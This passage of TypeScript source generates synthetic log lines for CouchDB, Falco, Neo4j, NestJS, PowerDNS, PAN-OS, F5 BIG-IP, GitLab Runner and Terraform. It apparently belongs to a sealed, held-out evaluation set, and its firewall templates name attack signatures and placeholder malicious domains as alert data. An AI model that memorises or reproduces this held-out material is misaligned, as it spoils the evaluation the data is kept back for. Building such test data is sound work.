const shard = (r: Rng) => `shards/${r.pick(['00000000-1fffffff', '20000000-3fffffff', '40000000-5fffffff', '80000000-9fffffff', 'e0000000-ffffffff'])}/${cdb(r)}.${1796000000 + r.int(0, 600000)}`;
const cdReq = (r: Rng, m: string, path: string, status: number) => `${cd(r, 'notice', true)}${skew(r, ['localhost:5984', 'db.example.com:5984', '10.0.4.11:5984'], 0.5)} ${r.next() < 0.7 ? `10.0.3.${r.int(2, 90)}` : r.ip()} ${skew(r, ['app', 'admin', 'undefined', 'replicator'], 0.5)} ${m} ${path} ${status} ok ${r.next() < 0.8 ? r.int(1, 40) : r.int(41, 9000)}`;
const docId = (r: Rng) => (r.next() < 0.6 ? r.hex(32) : `${r.pick(['order', 'user', 'cart'])}:${r.int(1, 99999)}`);
const DDOCS = ['orders', 'by_status', 'by_customer', 'search'];

// Falco
const DOW = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const ctime = (r: Rng) => { const m = r.next() < 0.8 ? 12 : 11; const d = r.int(1, 28); return `${DOW[new Date(Date.UTC(2026, m - 1, d)).getUTCDay()]} ${m === 12 ? 'Dec' : 'Nov'} ${d < 10 ? ' ' : ''}${d} ${hms(r)} 2026`; };
type FField = [string, string, string | number];
const FPODS: [string, string, string, string][] = [['shop', 'api-7d9f6c5b8-x2x4z', 'ghcr.io/acme/shop-api', '2.14.1'], ['shop', 'worker-5c8d7b9f4-k7p2q', 'ghcr.io/acme/shop-worker', '2.14.1'], ['default', 'debug-shell', 'docker.io/library/alpine', '3.20'], ['observability', 'grafana-0', 'docker.io/grafana/grafana', '11.3.0'], ['kube-system', 'coredns-76f75df574-9hzqk', 'registry.k8s.io/coredns/coredns', 'v1.11.1']];
const fctx = (r: Rng, host: boolean): FField[] => {
  if (host) return [['container_id', 'container.id', 'host'], ['container_name', 'container.name', 'host']];
  const [ns, pod, img, tag] = skew(r, FPODS, 0.35);
  return [['container_id', 'container.id', r.hex(12)], ['container_name', 'container.name', pod.split('-')[0]], ['container_image_repository', 'container.image.repository', img], ['container_image_tag', 'container.image.tag', tag], ['k8s_pod_name', 'k8s.pod.name', pod], ['k8s_ns_name', 'k8s.ns.name', ns]];
};
const fproc = (r: Rng, evt: string, proc: string, exe: string, parent: string, cmd: string): FField[] => {
  const root = r.next() < 0.75;
  return [['evt_type', 'evt.type', evt], ['user', 'user.name', root ? 'root' : r.pick(['www-data', 'app', 'nobody', ...PEOPLE])], ['user_uid', 'user.uid', root ? 0 : r.int(33, 65534)], ['user_loginuid', 'user.loginuid', r.next() < 0.8 ? -1 : r.int(1000, 1010)], ['process', 'proc.name', proc], ['proc_exepath', 'proc.exepath', exe], ['parent', 'proc.pname', parent], ['command', 'proc.cmdline', cmd], ['terminal', 'proc.tty', r.next() < 0.6 ? 0 : 34816]];
};
const falco = (r: Rng, rule: string, pri: string, desc: string, fields: FField[], tags: string[]) => {
  const out = `${hms(r)}.${nsec(r)}: ${pri} ${desc} (${fields.map(([o, , v]) => `${o}=${v}`).join(' ')})`;
  const of: Record<string, string | number> = { 'evt.time': 1796601600000000000 + r.int(0, 999999999) };
  for (const [, k, v] of fields) of[k] = v;
  const sorted = Object.fromEntries(Object.keys(of).sort().map((k) => [k, of[k]]));
  return JSON.stringify({ hostname: skew(r, ['node-1', 'node-2', 'node-3', 'ip-10-0-3-17'], 0.4), output: out, output_fields: sorted, priority: pri, rule, source: 'syscall', tags, time: `${ymd(r)}T${hms(r)}.${nsec(r)}Z` });
};
const SHELLS = ['bash', 'sh', 'ash', 'zsh'];

// Neo4j 5
const nj = (r: Rng, lvl: string) => `${ymd(r)} ${hms(r)}.${ms3(r)}+0000 ${lvl.padEnd(5)} `;
const NDB: [string, string][] = [['neo4j', '8a2b9c1d'], ['neo4j', '8a2b9c1d'], ['system', '00000000'], ['movies', 'c41f7e2a']];
const ndb = (r: Rng) => { const [n, id] = skew(r, NDB, 0.6); return `[${n}/${id}]`; };
const CKPT = ['Scheduled checkpoint for every 15 minutes threshold', 'Scheduled checkpoint for every 100000 transactions threshold', 'Database shutdown', 'Store copy', 'Call to db.checkpoint() procedure'];
const DRIVERS = ['neo4j-python/5.26.0 Python/3.12.7-final-0 (linux)', 'neo4j-java/5.27.0-5f9b2b1c', 'neo4j-javascript/5.25.0', 'neo4j-go/5.26.0', 'neo4j-browser/5.24.0'];
const CYPHER: [string, (r: Rng) => string][] = [
  ['MATCH (p:Person {id: $id}) RETURN p', (r) => `{id: ${r.int(1, 99999)}}`],
  ['MATCH (u:User)-[:BOUGHT]->(p:Product)<-[:BOUGHT]-(o:User) WHERE u.id = $uid RETURN p.sku, count(o) AS c ORDER BY c DESC LIMIT 10', (r) => `{uid: '${r.uuid()}'}`],
  ['MERGE (o:Order {id: $id}) SET o.total = $total, o.updated = datetime()', (r) => `{id: ${r.int(1000, 99999)}, total: ${r.float(1, 900, 2)}}`],
  ['CALL db.labels()', () => '{}'],
  ['MATCH (n) RETURN count(n)', () => '{}'],
  ['UNWIND $rows AS row MERGE (c:Customer {id: row.id}) SET c += row.props', (r) => `{rows: [${some(r, [0], 1, 3).map(() => `{id: ${r.int(1, 9999)}, props: {name: '${r.pick(PEOPLE)}'}}`).join(', ')}]}`],
];
const NERR = [
  "Neo.ClientError.Statement.SyntaxError: Invalid input 'RETRUN': expected 'RETURN'",
  'Neo.TransientError.Transaction.DeadlockDetected: ForsetiClient[transactionId=12, clientId=1] can\'t acquire ExclusiveLock{owner=ForsetiClient[transactionId=9, clientId=4]}',
  'Neo.ClientError.Transaction.TransactionTimedOutClientConfiguration: The transaction has been terminated. Retry your operation in a new transaction, and you should see a successful result.',
  'Neo.ClientError.Schema.ConstraintValidationFailed: Node(1234) already exists with label `Customer` and property `id` = 42',
];

// NestJS ConsoleLogger
const ndate = (r: Rng) => { const h = r.int(0, 23); return `${r.next() < 0.8 ? '12' : '11'}/${d2(r.int(1, 28))}/2026, ${h % 12 === 0 ? 12 : h % 12}:${d2(r.int(0, 59))}:${d2(r.int(0, 59))} ${h < 12 ? 'AM' : 'PM'}`; };
const nest = (r: Rng, lvl: string, ctx: string) => `[Nest] ${r.next() < 0.7 ? 1 : r.int(18, 90)}  - ${ndate(r)} ${lvl.padStart(7)} [${ctx}] `;
const NMODS = ['AppModule', 'TypeOrmModule', 'ConfigModule', 'OrdersModule', 'PaymentsModule', 'HealthModule', 'ScheduleModule', 'TerminusModule', 'CartModule'];
const NROUTES: [string, string, string[]][] = [
  ['OrdersController', '/api/orders', ['/api/orders, GET', '/api/orders/:id, GET', '/api/orders, POST', '/api/orders/:id, PATCH', '/api/orders/:id, DELETE']],
  ['PaymentsController', '/api/payments', ['/api/payments/webhook, POST', '/api/payments/:id, GET']],
  ['HealthController', '/health', ['/health, GET', '/health/ready, GET']],
  ['CartController', '/api/cart', ['/api/cart, GET', '/api/cart/items, POST', '/api/cart/items/:sku, DELETE']],
];
const nUrl = (r: Rng) => r.pick([`/api/orders/${r.int(1000, 99999)}`, `/api/orders?status=${r.pick(['open', 'paid'])}&page=${r.int(1, 20)}`, '/health', '/health/ready', '/api/cart', `/api/cart/items/${upper(r, 2)}-${r.int(10, 99)}`, '/api/payments/webhook']);
const NUA = ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', 'kube-probe/1.31', 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', 'okhttp/4.12.0', 'axios/1.7.9', ''];
const nHttp = (r: Rng, m: string, statuses: number[]) => `${nest(r, 'LOG', 'HTTP')}${m} ${nUrl(r)} ${r.pick(statuses)} ${r.int(0, 90000)} - ${skew(r, NUA, 0.3)} ${r.next() < 0.7 ? `::ffff:10.42.${r.int(0, 9)}.${r.int(2, 250)}` : r.ip()}`;
const NEX = [
  "Cannot read properties of undefined (reading 'id')",
  (r: Rng) => `connect ECONNREFUSED 10.0.3.${r.int(2, 90)}:5432`,
  'Request failed with status code 502',
  'duplicate key value violates unique constraint "UQ_97672ac88f789774dd47f7c8be3"',
  (r: Rng) => `Order ${r.int(1000, 99999)} not found`,
  'timeout of 5000ms exceeded',
];
const exMsg = (r: Rng, xs: (string | ((r: Rng) => string))[]) => { const x = r.pick(xs); return typeof x === 'string' ? x : x(r); };

export const SEALED7_SYSTEMS: HeldoutSystem[] = [
  { name: 'powerdns', templates: [
    t(16, (r) => `${pd(r)}Remote ${r.next() < 0.6 ? `10.${r.int(0, 3)}.${r.int(0, 255)}.${r.int(2, 250)}` : r.ip()} wants '${(() => { const q = r.pick(PQ); return q ? `${q}.${pz(r)}` : pz(r); })()}|${r.pick(PT)}', do = ${r.next() < 0.3 ? 1 : 0}, bufsize = ${skew(r, [1232, 512, 4096, 1400])}: packetcache ${r.next() < 0.65 ? 'HIT' : 'MISS'}`),
    t(4, (r) => `${pd(r)}Queued notification of domain '${pz(r)}' to ${skew(r, SECS, 0.5)}:53`),
    t(3, (r) => `${pd(r)}Removed from notification list: '${pz(r)}' to ${skew(r, SECS, 0.5)}:53 (was acknowledged)`),
    t(2, (r) => `${pd(r)}Received unsuccessful notification report for '${pz(r)}' from ${skew(r, SECS, 0.5)}:53, error: ${r.pick(['Query Refused', 'Server Failure', 'Not Implemented', 'Not Authoritative'])}`),
    t(3, (r) => `${pd(r)}AXFR-out zone '${pz(r)}', client '${skew(r, SECS, 0.5)}:${port(r)}', transfer initiated`),
    t(3, (r) => `${pd(r)}AXFR-out zone '${pz(r)}', client '${skew(r, SECS, 0.5)}:${port(r)}', done`),
    t(1.5, (r) => `${pd(r)}AXFR-out zone '${pz(r)}', client '${r.ip()}:${port(r)}', failed: client may not request AXFR`),
    t(5, (r) => { const n = r.int(0, 12); return `${pd(r)}${n} slave ${plural(n, 'domain needs', 'domains need')} checking, ${r.int(0, Math.max(0, n))} queued for AXFR`; }),
    t(6, (r) => `${pd(r)}Domain '${pz(r)}' is fresh (no DNSSEC), serial is ${pserial(r)} (checked primary ${prim(r)})`),
    t(2, (r) => { const a = pserial(r); return `${pd(r)}Domain '${pz(r)}' is stale, primary serial ${Number(a) + r.int(1, 4)}, our serial ${a}`; }),
    t(2, (r) => `${pd(r)}Initiating transfer of '${pz(r)}' from remote '${prim(r)}'`),
    t(2, (r) => `${pd(r)}AXFR-in zone: '${pz(r)}', primary: '${prim(r)}', zone committed with serial ${pserial(r)}`),
    t(2, (r) => `${pd(r)}Received NOTIFY for ${r.pick(['example.com', 'foo.example', 'internal.test', 'example.co.uk'])} from ${r.ip()} for which we are not authoritative (Refused)`),
    t(1.5, (r) => `${pd(r)}Backend reported condition which prevented lookup (${r.pick([`GSQLBackend lookup query:Could not prepare statement: SELECT content,ttl,prio,type,domain_id,disabled,name,auth FROM records WHERE disabled=0 and type=? and name=?: Lost connection to server during query`, `GSQLBackend unable to list domain 'example.com': Could not execute mysql statement: Too many connections`, `PostgreSQL failed to execute command: server closed the connection unexpectedly`])}) sending out servfail`),
    t(0.8, (r) => `${pd(r)}Polled security status of version ${r.pick(['4.9.2', '4.9.3', '4.8.4'])} at startup, no known issues reported: OK`),
    t(0.8, (r) => `${pd(r)}Done launching threads, ready to distribute questions`),
    t(0.8, (r) => `${pd(r)}gmysql Connection successful. Connected to database '${r.pick(['pdns', 'powerdns'])}' on '${r.pick(['127.0.0.1', 'db.internal', '/run/mysqld/mysqld.sock'])}'.`),
  ] },
  { name: 'pan-os', templates: [
    t(60, (r) => {
      const dev = paDev(r); const tm = paTime(r); const st = skew(r, ['end', 'start', 'drop', 'deny'], 0.55);
      const [app, pr, dp] = r.pick(PA_APPS); const inbound = st === 'deny' || st === 'drop' ? r.next() < 0.7 : false;
      const src = inbound ? r.ip() : lan(r); const dst = inbound ? '203.0.113.10' : (r.next() < 0.1 ? lan(r, '10.20') : r.ip());
      const natSrc = !inbound && !dst.startsWith('10.') ? skew(r, ['203.0.113.2', '203.0.113.3']) : '0.0.0.0';
      const sp = port(r); const allow = st === 'end' || st === 'start';
      const bs = allow ? r.int(60, 900000) : 0; const br = allow ? r.int(0, 9000000) : 0; const ps = allow ? r.int(1, 900) : 1; const prr = allow ? r.int(0, 9000) : 0;
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'TRAFFIC', st, 2562, tm, src, dst, natSrc, '0.0.0.0', allow ? skew(r, ['allow-outbound', 'allow-dns', 'allow-o365', 'guest-internet']) : skew(r, ['deny-inbound-default', 'block-bad-countries', 'interzone-default']), allow ? paUser(r) : '', '', st === 'start' ? skew(r, ['incomplete', app]) : app, 'vsys1', inbound ? 'untrust' : skew(r, ['trust', 'guest', 'dmz']), inbound ? 'trust' : 'untrust', inbound ? 'ethernet1/1' : skew(r, ['ethernet1/2', 'ethernet1/3.20']), inbound ? '' : 'ethernet1/1', 'Syslog-Fwd', tm, r.int(10000, 999999), 1, sp, dp, natSrc === '0.0.0.0' ? 0 : port(r), natSrc === '0.0.0.0' ? 0 : dp, r.pick(['0x400064', '0x19', '0x400000', '0x0', '0x500000']), pr, allow ? 'allow' : st === 'drop' ? 'drop' : r.pick(['deny', 'reset-both']), bs + br, bs, br, ps + prr, tm, allow && st === 'end' ? r.int(0, 3600) : 0, allow ? r.pick(URLCAT) : 'any', 0, r.int(1e9, 9e9), r.pick(['0x8000000000000000', '0x0']), country(src) || r.pick(COUNTRIES), country(dst) || r.pick(COUNTRIES), '', ps, prr, st === 'end' ? skew(r, ['aged-out', 'tcp-fin', 'tcp-rst-from-client', 'tcp-rst-from-server', 'threat']) : st === 'start' ? 'n/a' : 'policy-deny', 0, 0, 0, 0, '', dev, 'from-policy', '', '', 0, '', 0, '', 'N/A', 0, 0, 0, 0, r.uuid(), 0, 0, '', '', '', '', '', '', '', '');
    }),
    t(12, (r) => {
      const dev = paDev(r); const tm = paTime(r); const sub = skew(r, ['url', 'vulnerability', 'spyware', 'virus', 'file'], 0.5);
      const inb = sub === 'vulnerability' && r.next() < 0.7; const src = inb ? r.ip() : lan(r); const dst = inb ? '203.0.113.10' : r.ip();
      const [threat, sev, cat, act, what] = sub === 'url'
        ? ['(9999)', 'informational', r.pick(URLCAT), r.next() < 0.8 ? 'alert' : 'block-url', `${r.pick(['www.example.com', 'login.examp1e-secure.com', 'cdn.jsdelivr.net', 'docs.google.com'])}/${r.pick(['', 'index.html', 'wp-login.php', 'account/verify?id=12', 'npm/bootstrap@5/dist/js/bootstrap.min.js'])}`]
        : sub === 'vulnerability'
          ? [r.pick(['Apache Log4j Remote Code Execution Vulnerability(91991)', 'HTTP Directory Traversal Request Attempt(30844)', 'SIPVicious Scanner Detection(40015)', 'Microsoft Windows SMB Remote Code Execution Vulnerability(32424)', 'Generic HTTP Cross Site Scripting Attempt(32658)']), r.pick(['critical', 'high', 'medium']), 'any', r.pick(['reset-both', 'alert', 'drop', 'reset-server']), r.pick(['', 'index.php', 'cgi-bin', 'login.action'])]
          : sub === 'spyware'
            ? [`Suspicious DNS Query (generic:${r.pick(['xk2j9fh3.example', 'update-check.example.biz', 'cdn-mal.example.top'])})(${r.int(109000000, 109999999)})`, r.pick(['medium', 'high']), 'any', r.pick(['sinkhole', 'alert', 'drop']), '']
            : sub === 'virus'
              ? [`Virus/Win32.WGeneric.${r.hex(6)}(${r.int(200000000, 299999999)})`, 'medium', 'any', r.pick(['reset-both', 'alert']), r.pick(['invoice_2026-12.zip', 'setup.exe', 'doc_7781.js'])]
              : [r.pick(['Windows Executable (EXE)(52020)', 'PDF File(52117)', 'Microsoft Excel 2007 File(52022)']), 'low', 'any', 'alert', r.pick(['setup.exe', 'report-q4.pdf', 'budget.xlsx'])];
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'THREAT', sub, 2562, tm, src, dst, inb ? '0.0.0.0' : '203.0.113.2', inb ? '10.1.5.20' : '0.0.0.0', inb ? 'allow-web-inbound' : 'allow-outbound', inb ? '' : paUser(r), '', sub === 'spyware' ? 'dns-base' : skew(r, ['web-browsing', 'ssl', 'smb']), 'vsys1', inb ? 'untrust' : 'trust', inb ? 'dmz' : 'untrust', inb ? 'ethernet1/1' : 'ethernet1/2', inb ? 'ethernet1/4' : 'ethernet1/1', 'Syslog-Fwd', tm, r.int(10000, 999999), 1, port(r), sub === 'spyware' ? 53 : r.pick([80, 443]), 0, 0, '0x80400000', sub === 'spyware' ? 'udp' : 'tcp', act, qv(what), threat, cat, sev, inb || sub === 'url' || sub === 'spyware' ? 'client-to-server' : 'server-to-client', r.int(1e9, 9e9), '0x8000000000000000', country(src) || r.pick(COUNTRIES), country(dst) || r.pick(COUNTRIES), '', sub === 'url' ? 'text/html' : '', 0, '', '', sub === 'url' ? 1 : 0, '', sub === 'url' ? qv(r.pick(['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0'])) : '', '', '', '', '', '', '', 0, 0, 0, 0, '', dev, '', '', '', '', 0, '', 0, '', 'N/A', r.pick(['code-execution', 'info-leak', 'brute-force', 'unknown']), r.pick(['AppThreat-8920-9118', '0']), '0x0', r.uuid(), 0, '');
    }),
    t(6, (r) => {
      const dev = paDev(r); const tm = paTime(r); const u = r.pick(['admin', ...PEOPLE]); const ip = `10.0.0.${r.int(2, 60)}`;
      const [sub, evt, mod, sev, desc] = r.pick<[string, string, string, string, string]>([
        ['general', 'general', 'general', 'informational', `User ${u} logged in via Web from ${ip} using https`],
        ['auth', 'auth-success', 'general', 'informational', `authenticated for user '${u}'. auth profile 'Corp-LDAP', vsys 'shared', server profile 'corp-ldap', server address '10.0.0.10', From: ${ip}.`],
        ['auth', 'auth-fail', 'general', 'medium', `failed authentication for user '${u}'. Reason: Invalid username/password. auth profile 'Corp-LDAP', vsys 'shared', From: ${r.ip()}.`],
        ['vpn', 'ike-nego-p1-fail', 'ike', 'informational', `IKE phase-1 negotiation is failed as initiator, main mode. Failed SA: 203.0.113.2[500]-198.51.100.${r.int(2, 250)}[500] cookie:${r.hex(16)}:0000000000000000. Due to timeout.`],
        ['routing', 'routed-bgp-peer-fsm-state-changed', 'routing', 'informational', `BGP peer 192.0.2.${r.int(1, 9)} FSM state changed from ${r.pick(['Established', 'OpenConfirm', 'Idle'])} to ${r.pick(['Idle', 'Established', 'Connect'])}`],
        ['general', 'general', 'general', 'informational', `Commit job ${r.int(100, 9999)} completed successfully by ${u}`],
        ['dhcp', 'dhcp-lease-renewed', 'dhcp', 'informational', `DHCP lease renewed for ethernet1/1: ip 203.0.113.2, lease time ${r.pick([3600, 86400])}`],
      ]);
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'SYSTEM', sub, 2562, tm, '', evt, sub === 'vpn' ? skew(r, ['ike-gw-branch1', 'ike-gw-aws']) : '', 0, 0, mod, sev, qv(desc), r.int(1e6, 9e6), '0x0', 0, 0, 0, 0, '', dev, 0, 0, `${ymd(r)}T${hms(r)}.${ms3(r)}+00:00`);
    }),
    t(3, (r) => {
      const dev = paDev(r); const tm = paTime(r); const cmd = skew(r, ['edit', 'set', 'delete', 'commit', 'rename'], 0.4);
      const path = cmd === 'commit' ? '' : r.pick([' vsys  vsys1 rulebase security rules  allow-web', ' deviceconfig system', ' network interface ethernet ethernet1/3 layer3 units  ethernet1/3.20', ' vsys  vsys1 address  srv-db-01', ' shared log-settings syslog  Splunk-HEC']);
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'CONFIG', 0, 2562, tm, `10.0.0.${r.int(2, 60)}`, cmd === 'commit' ? '' : 'vsys1', cmd, r.pick(['admin', ...PEOPLE]), r.pick(['Web', 'CLI', 'XML API']), cmd === 'commit' ? 'Submitted' : 'Succeeded', path, '', '', r.int(1e6, 9e6), '0x0', 0, 0, 0, 0, '', dev, '', '', `${ymd(r)}T${hms(r)}.${ms3(r)}+00:00`);
    }),
    t(8, (r) => {
      const dev = paDev(r); const tm = paTime(r); const login = r.next() < 0.7;
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'USERID', login ? 'login' : 'logout', 2562, tm, 'vsys1', lan(r), `corp\\${r.pick(PEOPLE)}`, skew(r, ['DC01', 'UserID-Agent-01', 'GP-Gateway']), 0, 1, r.pick([2700, 10800, 0]), 0, 0, r.pick(['agent', 'AD', 'globalprotect']), '', r.int(1e6, 9e6), '0x8000000000000000', 0, 0, 0, 0, '', dev, 1, '', tm, 1, '0x0', `corp\\${r.pick(PEOPLE)}`);
    }),
    t(3, (r) => {
      const dev = paDev(r); const tm = paTime(r); const [evt, stage] = r.pick([['gateway-auth', 'login'], ['gateway-connected', 'tunnel'], ['portal-auth', 'login'], ['gateway-logout', 'logout'], ['gateway-register', 'tunnel'], ['portal-prelogin', 'before-login']]);
      const ok = r.next() < 0.85; const win = r.next() < 0.7;
      return paHead(r, dev) + csv(1, tm, PA_SERIAL[dev], 'GLOBALPROTECT', 0, 2800, tm, 'vsys1', evt, stage, r.pick(['SAML', 'LDAP', 'Cookie', '']), r.pick(['IPSec', 'SSL', '']), `corp\\${r.pick(PEOPLE)}`, r.pick(['US', 'DE', 'NL', 'IE']), `${win ? 'LAPTOP' : 'MBP'}-${upper(r, 7)}`, r.ip(), '0.0.0.0', `10.8.${r.int(0, 3)}.${r.int(2, 250)}`, '0.0.0.0', r.uuid(), upper(r, 10), r.pick(['6.2.6', '6.3.1', '6.2.4']), win ? 'Windows' : 'Mac', qv(win ? 'Microsoft Windows 11 Pro , 64-bit' : 'Apple Mac OS X 15.1.1'), 1, '', '', qv(ok ? '' : r.pick(['Authentication failed: Invalid username or password', 'Client cert not present', 'SAML assertion expired'])), ok ? 'success' : 'failure', '', r.int(0, 40), '', 0, 'GP-Gateway', r.int(1e6, 9e6), '0x8000000000000000', `${ymd(r)}T${hms(r)}.${ms3(r)}+00:00`, '', '', '', '', '', 0, 0, 0, 0, '', dev, 1);
    }),
  ] },
  { name: 'f5-bigip', templates: [
    t(6, (r) => `${f5(r, 'notice', 'mcpd', 6789)}01070638:5: Pool ${f5pool(r)} member ${f5member(r)} monitor status down. [ ${r.pick(MONS)}: down; last error: ${f5err(r)} @${f5stamp(r)}.  ]  [ was up for ${f5dur(r)} ]`),
    t(6, (r) => `${f5(r, 'notice', 'mcpd', 6789)}01070727:5: Pool ${f5pool(r)} member ${f5member(r)} monitor status up. [ ${r.pick(MONS)}: up ]  [ was down for ${f5dur(r)} ]`),
    t(3, (r) => `${f5(r, 'err', tmm(r), 21054)}01010028:3: No members available for pool ${f5pool(r)}`),
    t(3, (r) => `${f5(r, 'err', tmm(r), 21054)}01010221:3: Pool ${f5pool(r)} now has available members`),
    t(14, (r) => `${f5(r, 'warning', tmm(r), 21054)}01260013:4: SSL Handshake failed for TCP ${r.ip()}:${port(r)} -> ${skew(r, VIPS)}:443`),
    t(5, (r) => `${f5(r, 'warning', tmm(r), 21054)}01260009:4: Connection error: ssl_hs_rxhello:${r.pick([8131, 8183, 7851, 11624])}: ${r.pick(SSLERR)}`),
    t(1.5, (r) => `${f5(r, 'notice', 'mcpd', 6789)}01071682:5: SNMP_TRAP: Virtual ${r.pick(VS)} has become unavailable`),
    t(1.5, (r) => `${f5(r, 'notice', 'mcpd', 6789)}01071681:5: SNMP_TRAP: Virtual ${r.pick(VS)} has become available`),
    t(3, (r) => `${f5(r, 'notice', 'mcpd', 6789)}01070417:5: AUDIT - client ${skew(r, ['tmsh', 'iControl REST Child', 'Unknown (User Interface)'])}, user ${r.pick(['admin', 'f5-automation', ...PEOPLE])} - transaction #${r.int(100000, 9999999)}-${r.int(1, 9)} - object 0 - ${r.pick(TMSH)(r)} [Status=Command OK]`),
    t(14, (r) => `${f5(r, 'info', tmm(r), 21054)}Rule /Common/irule_log_requests <HTTP_REQUEST>: client=${r.ip()}:${port(r)} host=${r.pick(['shop.example.com', 'api.example.com', 'www.example.com'])} uri=${r.pick(URIS)}${r.next() < 0.3 ? `?id=${r.int(1, 9999)}` : ''}`),
    t(10, (r) => `${f5(r, 'info', tmm(r), 21054)}Rule /Common/irule_log_requests <HTTP_RESPONSE>: status=${r.pick([200, 200, 200, 304, 302, 404, 500, 502])} pool=${f5pool(r)} member=${f5member(r).slice(8)} time=${r.int(1, 3000)}ms`),
    t(1, (r) => `${f5(r, 'crit', tmm(r), 21054)}01010201:2: Inet port exhaustion on ${r.pick(['203.0.113.5', '10.1.30.5'])} to ${r.pick(['8.8.8.8', '10.1.20.11', '198.51.100.7'])}:${r.pick([53, 443, 389])} (proto ${r.pick([6, 17])})`),
    t(2, (r) => `${f5(r, 'warning', tmm(r), 21054)}011f0005:3: HTTP header (${r.int(32769, 90000)}) exceeded maximum allowed size of 32768 (Client side: vip=${r.pick(VS)} profile=/Common/http pool=${f5pool(r)} client_ip=${r.ip()})`),
    t(2, (r) => `${f5(r, 'notice', tmm(r), 21054)}01010038:5: Syncookie counter ${r.int(12001, 90000)} exceeded vip threshold ${r.pick([12000, 40000])} for virtual = ${skew(r, VIPS)}:443`),
    t(0.7, (r) => `${f5(r, 'notice', 'sod', 5432)}010c0053:5: Active for traffic group /Common/traffic-group-${r.int(1, 2)}.`),
    t(0.7, (r) => `${f5(r, 'notice', 'sod', 5432)}010c0052:5: Standby for traffic group /Common/traffic-group-${r.int(1, 2)}.`),
  ] },
  { name: 'gitlab-runner', templates: [
    t(10, (r) => { const [, p] = skew(r, PROJECTS, 0.4); return `${gr(r)}${lr('Checking for jobs... received', { job: jobId(r), repo_url: `${GL}/${p}.git`, runner: runner(r) })}`; }),
    t(3, (r) => `${gr(r)}${lr('WARNING: Checking for jobs... failed', { runner: runner(r), status: `couldn't execute POST against ${GL}/api/v4/jobs/request: Post "${GL}/api/v4/jobs/request": ${r.pick(['dial tcp 10.0.0.2:443: i/o timeout', 'dial tcp: lookup gitlab.example.com on 127.0.0.53:53: server misbehaving', 'net/http: request canceled (Client.Timeout exceeded while awaiting headers)', 'EOF'])}` })}`),
    t(1, (r) => `${gr(r)}${lr('ERROR: Checking for jobs... forbidden', { runner: runner(r), status: `POST ${GL}/api/v4/jobs/request: 403 Forbidden` })}`),
    t(8, (r) => { const [id, p] = skew(r, PROJECTS, 0.4); const mb = skew(r, [4, 8, 2]); return `${gr(r)}${lr('Added job to processing list', { builds: r.int(1, mb), job: jobId(r), max_builds: mb, project: id, repo_url: `${GL}/${p}.git`, time_in_queue_seconds: r.int(0, 400) })}`; }),
    t(8, (r) => { const [id, p] = skew(r, PROJECTS, 0.4); const mb = skew(r, [4, 8, 2]); return `${gr(r)}${lr('Removed job from processing list', { builds: r.int(0, mb - 1), duration_s: r.float(5, 3600, 9), job: jobId(r), max_builds: mb, project: id, repo_url: `${GL}/${p}.git`, time_in_queue_seconds: r.int(0, 400) })}`; }),
    t(20, (r) => { const a = r.int(0, 900000); const b = a + r.int(1, 40000); return `${gr(r)}${lr('Appending trace to coordinator...ok', { code: 202, job: jobId(r), 'job-log': `0-${b}`, 'job-status': 'running', runner: runner(r), 'sent-log': `${a}-${b}`, status: '202 Accepted', 'update-interval': r.pick(['3s', '3s', '1s', '30s']) })}`; }),
    t(8, (r) => `${gr(r)}${lr('Updating job...', { bytesize: r.int(200, 900000), checksum: `crc32:${r.hex(8)}`, job: jobId(r), runner: runner(r) })}`),
    t(8, (r) => `${gr(r)}${lr('Submitting job to coordinator...ok', { bytesize: r.int(200, 900000), checksum: `crc32:${r.hex(8)}`, code: 200, job: jobId(r), 'job-status': '', runner: runner(r), 'update-interval': '0s' })}`),
    t(6, (r) => `${gr(r)}${lr('Job succeeded', { duration_s: r.float(5, 3600, 9), job: jobId(r), project: skew(r, PROJECTS, 0.4)[0], runner: runner(r) })}`),
    t(3, (r) => `${gr(r)}${lr(`WARNING: Job failed: exit code ${r.pick([1, 1, 1, 2, 125, 127, 137])}`, { duration_s: r.float(5, 3600, 9), job: jobId(r), project: skew(r, PROJECTS, 0.4)[0], runner: runner(r) })}`),
    t(1, (r) => `${gr(r)}${lr(`ERROR: Job failed (system failure): ${r.pick(['prepare environment: exit status 1. Check https://docs.gitlab.com/runner/shells/index.html#shell-profile-loading for more information', 'Error response from daemon: no such image: registry.example.com/ci/node:20 (docker.go:659:0s)', 'failed to pull image "docker:27-dind": context deadline exceeded', 'aborted: terminated'])}`, { duration_s: r.float(1, 600, 9), job: jobId(r), project: skew(r, PROJECTS, 0.4)[0], runner: runner(r) })}`),
    t(1, (r) => { const b = r.int(100, 900000); return `${gr(r)}${lr('WARNING: Appending trace to coordinator... job failed', { code: 403, job: jobId(r), 'job-log': `0-${b}`, 'job-status': r.pick(['canceled', 'failed', 'canceling']), runner: runner(r), 'sent-log': `${r.int(0, b)}-${b}`, status: '403 Forbidden', 'update-interval': '0s' })}`; }),
    t(0.8, (r) => `${gr(r)}${lr('Configuration loaded', { builds: r.int(0, 2), max_builds: skew(r, [4, 8, 2]) })}`),
    t(0.6, (r) => `${gr(r)}${lr('Starting multi-runner from /etc/gitlab-runner/config.toml...', { builds: 0, max_builds: skew(r, [4, 8, 2]) })}`),
  ] },
  { name: 'terraform', templates: [
    t(24, (r) => { const a = res(r); return `${a}: Refreshing state... [id=${tfId(r, a)}]`; }),
    t(4, (r) => `${r.pick(DATA)[0]}: Reading...`),
    t(4, (r) => { const [d, id] = r.pick(DATA); return `${d}: Read complete after ${r.next() < 0.8 ? '0s' : goDur(r, 5)} [id=${id(r)}]`; }),
    t(5, (r) => `${res(r)}: Creating...`),
    t(10, (r) => `${res(r)}: Still creating... [${r.next() < 0.5 ? `${r.int(1, 5) * 10}s` : `${r.int(1, 14)}m${r.pick([0, 10, 20, 30, 40, 50])}s`} elapsed]`),
    t(5, (r) => { const a = res(r); return `${a}: Creation complete after ${goDur(r, 900)} [id=${tfId(r, a)}]`; }),
